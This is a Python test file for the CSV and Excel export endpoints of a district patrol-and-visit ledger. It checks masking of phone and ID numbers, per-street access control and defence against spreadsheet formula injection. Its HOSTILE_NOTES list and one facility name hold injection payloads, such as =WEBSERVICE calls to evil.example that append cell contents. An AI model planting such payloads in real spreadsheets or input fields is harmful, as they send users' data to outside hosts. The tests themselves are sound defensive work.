"""The ledger exports: one row per record, masked numbers, flags, reviews, photo links, streamed."""

import csv
import io
from datetime import date
from urllib.parse import unquote

from openpyxl import load_workbook
from sqlalchemy import select

from storage.models import AuditEntry, Review
from tests.builders import add_facility, add_patrol, add_subject, add_visit, login, make_district

FAR = {"code": "far_from_site", "detail": "850 m from the site", "detail_zh": "记录位置距设施 850 米"}


async def _records(db, d):
    w1 = d.users["worker1"]
    facility = await add_facility(db, d.community1, name="东山烈士陵园")
    patrol = await add_patrol(
        db,
        d.community1,
        w1,
        facility,
        issues={"structure": "碑体裂缝"},
        flags=[FAR],
        status="returned",
        photo_ids=[__import__("uuid").uuid4()],
    )
    db.add(
        Review(
            record_kind="patrol",
            record_id=patrol.id,
            reviewer_id=d.users["super1"].id,
            decision="return",
            comment="请补拍裂缝近景",
        )
    )
    subject = await add_subject(db, d.community1, name="张桂兰")
    await add_visit(db, d.community1, w1, subject, visit_type="holiday", cash_yuan=500, goods="米、油")
    other = await add_facility(db, d.community2, name="西山纪念碑")
    await add_patrol(db, d.community2, d.users["worker2"], other)
    await db.commit()
    return patrol


async def test_patrols_xlsx_has_one_row_per_record_with_flags_review_and_photo_link(client, db):
    d = await make_district(db)
    patrol = await _records(db, d)
    response = await client.get("/api/v1/exports/patrols.xlsx", headers=await login(client, "super1"))
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="patrols-')
    assert "巡查台账_东街道_" in unquote(disposition.split("filename*=UTF-8''")[1])
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    header, *data = rows
    assert len(data) == 1
    row = dict(zip(header, data[0], strict=False))
    assert row["记录编号"] == str(patrol.id) and row["设施"] == "东山烈士陵园"
    assert row["设施完好"] == "问题：碑体裂缝" and row["环境卫生"] == "正常"
    assert row["证据提示"] == "记录位置距设施 850 米"
    assert (row["状态"], row["审核结论"], row["审核意见"], row["审核人"]) == (
        "已退回",
        "退回",
        "请补拍裂缝近景",
        "Super1",
    )
    assert row["照片1"].startswith("http") and row["照片1"].endswith(f"/#/photo/{patrol.photo_ids[0]}")
    audit = await db.scalar(select(AuditEntry).where(AuditEntry.action == "export"))
    assert audit.entity == "patrols" and audit.detail["format"] == "xlsx"


async def test_visits_csv_has_a_bom_and_masked_numbers(client, db):
    d = await make_district(db)
    await _records(db, d)
    response = await client.get(
        f"/api/v1/exports/visits.csv?from=2020-01-01&to={date.today().year + 1}-01-01",
        headers=await login(client, "super1"),
    )
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert (row["走访对象"], row["走访类型"], row["慰问金(元)"], row["慰问物品"]) == (
        "张桂兰",
        "节日慰问",
        "500.00",
        "米、油",
    )
    assert row["联系电话"] == "1******5678" and row["身份证号"] == "5201**********1234"
    assert "13812345678" not in response.text and "520102195001011234" not in response.text
    assert row["审核结论"] == "未审核"


async def test_patrols_csv_and_visits_xlsx_answer_too(client, db):
    d = await make_district(db)
    await _records(db, d)
    h = await login(client, "admin")
    patrols = await client.get("/api/v1/exports/patrols.csv", headers=h)
    assert len(list(csv.reader(io.StringIO(patrols.content.decode("utf-8-sig"))))) == 3
    visits = await client.get("/api/v1/exports/visits.xlsx", headers=h)
    assert len(list(load_workbook(io.BytesIO(visits.content)).active.iter_rows())) == 2


async def test_another_streets_supervisor_cannot_export_this_street(client, db):
    d = await make_district(db)
    await _records(db, d)
    h = await login(client, "super2")
    response = await client.get(f"/api/v1/exports/patrols.xlsx?org_unit_id={d.street1.id}", headers=h)
    assert response.status_code == 404
    own = await client.get("/api/v1/exports/patrols.csv", headers=h)
    text = own.content.decode("utf-8-sig")
    assert "西山纪念碑" in text and "东山烈士陵园" not in text
    worker = await client.get("/api/v1/exports/visits.csv", headers=await login(client, "worker1"))
    assert worker.status_code == 403


async def test_bad_export_parameters_are_4xx(client, db):
    await make_district(db)
    h = await login(client, "super1")
    for query in ("from=2026-02-30", "from=2026-03-01&to=2026-01-01", "org_unit_id=42"):
        response = await client.get(f"/api/v1/exports/visits.xlsx?{query}", headers=h)
        assert 400 <= response.status_code < 500, (query, response.status_code)
    assert (await client.get("/api/v1/exports/visits.pdf", headers=h)).status_code == 404


async def test_typed_text_never_becomes_a_formula(client, db):
    d = await make_district(db)
    facility = await add_facility(db, d.community1, name='=HYPERLINK("http://evil","x")')
    await add_patrol(db, d.community1, d.users["worker1"], facility, issues={"safety": "+1+2"})
    await db.commit()
    h = await login(client, "super1")
    text = (await client.get("/api/v1/exports/patrols.csv", headers=h)).content.decode("utf-8-sig")
    row = list(csv.DictReader(io.StringIO(text)))[0]
    assert row["设施"].startswith("'=") and row["安全隐患"] == "问题：+1+2"
    sheet = load_workbook(io.BytesIO((await client.get("/api/v1/exports/patrols.xlsx", headers=h)).content)).active
    header = [c.value for c in sheet[1]]
    facility_cell = sheet.cell(row=2, column=header.index("设施") + 1)
    assert facility_cell.data_type == "s" and facility_cell.value.startswith("=HYPERLINK")


HOSTILE_NOTES = [
    # a typed "link" that once became =HYPERLINK("<note>",...) with the note pasted in unescaped
    'x/#/photo/1",WEBSERVICE("http://evil.example/?"&A2),"',
    '=WEBSERVICE("http://evil.example/")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


async def test_only_server_made_photo_links_are_hyperlinks_and_no_cell_is_a_formula(client, db):
    d = await make_district(db)
    facility = await add_facility(db, d.community1, name="东山烈士陵园")
    photo = __import__("uuid").uuid4()
    notes = {}
    for i, note in enumerate(HOSTILE_NOTES):
        patrol = await add_patrol(
            db,
            d.community1,
            d.users["worker1"],
            facility,
            issues={"safety": note},
            photo_ids=[photo] if i == 0 else None,
        )
        patrol.notes = note
        notes[str(patrol.id)] = note
    await db.commit()
    h = await login(client, "super1")
    response = await client.get("/api/v1/exports/patrols.xlsx", headers=h)
    assert response.status_code == 200, response.text
    sheet = _xlsx(response.content)
    header = [c.value for c in sheet[1]]
    col = {name: i for i, name in enumerate(header)}
    links = []
    for row in sheet.iter_rows(min_row=2):
        assert not [c.coordinate for c in row if c.data_type == "f"], "a cell became a formula"
        assert row[col["备注"]].value == notes[row[col["记录编号"]].value]
        assert row[col["安全隐患"]].value == "问题：" + notes[row[col["记录编号"]].value]
        links += [
            (header[c.column - 1], c.hyperlink.target + "#" + c.hyperlink.location, c.value) for c in row if c.hyperlink
        ]
    assert len(links) == 1
    name, url, shown = links[0]
    assert name == "照片1" and url == shown and url.startswith("http") and url.endswith(f"/#/photo/{photo}")

    rows = list(
        csv.DictReader(
            io.StringIO((await client.get("/api/v1/exports/patrols.csv", headers=h)).content.decode("utf-8-sig"))
        )
    )
    for row in rows:
        note = notes[row["记录编号"]]
        neutral = "'" + note if note[0] in "=+-@\t\r" else note
        assert row["备注"] == neutral
    assert not any(v and v.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for v in row.values())


async def test_a_control_character_in_a_note_does_not_fail_the_export(client, db):
    d = await make_district(db)
    facility = await add_facility(db, d.community1, name="东山\x08烈士陵园")
    patrol = await add_patrol(db, d.community1, d.users["worker1"], facility, issues={"structure": "裂\x0b缝"})
    patrol.notes = "第一行\n第二行\x01\x1f结束\t"
    await db.commit()
    h = await login(client, "super1")
    response = await client.get("/api/v1/exports/patrols.xlsx", headers=h)
    assert response.status_code == 200, response.text
    header, row = [[c.value for c in r] for r in _xlsx(response.content).iter_rows()]
    row = dict(zip(header, row, strict=False))
    assert (row["设施"], row["设施完好"], row["备注"]) == ("东山 烈士陵园", "问题：裂 缝", "第一行\n第二行  结束\t")
    text = (await client.get("/api/v1/exports/patrols.csv", headers=h)).content.decode("utf-8-sig")
    assert "\x01" not in text and "\x08" not in text


async def test_the_ledger_speaks_in_words_with_money_coordinates_and_the_period_in_its_name(client, db):
    d = await make_district(db)
    subject = await add_subject(db, d.community1, name="张桂兰")
    from datetime import datetime, timezone

    visit = await add_visit(
        db,
        d.community1,
        d.users["worker1"],
        subject,
        visit_type="merit_notice",
        cash_yuan="1234.5",
        visited_at=datetime(2026, 11, 10, 3, tzinfo=timezone.utc),
    )
    visit.award = {"grade": "third_class", "co_deliverer": "区人武部"}
    visit.lat, visit.lon = 26.123456789, 106.987654321
    await db.commit()
    h = await login(client, "super1")
    response = await client.get("/api/v1/exports/visits.xlsx?from=2026-11-01&to=2026-11-30", headers=h)
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="visits-20261101-20261130.xlsx"')
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "走访台账_东街道_20261101-20261130.xlsx"
    sheet = _xlsx(response.content)
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=False))
    assert (cells["走访类型"].value, cells["对象类别"].value, cells["喜报"].value) == (
        "送喜报",
        "烈士遗属",
        "三等功；区人武部",
    )
    assert cells["慰问金(元)"].value == 1234.5 and cells["慰问金(元)"].number_format == '"¥"#,##0.00'
    assert (cells["纬度"].value, cells["经度"].value) == (26.123457, 106.987654)
    assert cells["纬度"].number_format == "0.000000"
    csv_response = await client.get("/api/v1/exports/visits.csv?from=2026-11-01&to=2026-11-30", headers=h)
    assert 'filename="visits-20261101-20261130.csv"' in csv_response.headers["content-disposition"]
    row = list(csv.DictReader(io.StringIO(csv_response.content.decode("utf-8-sig"))))[0]
    assert (row["慰问金(元)"], row["纬度"], row["经度"], row["喜报"]) == (
        "1234.50",
        "26.123457",
        "106.987654",
        "三等功；区人武部",
    )
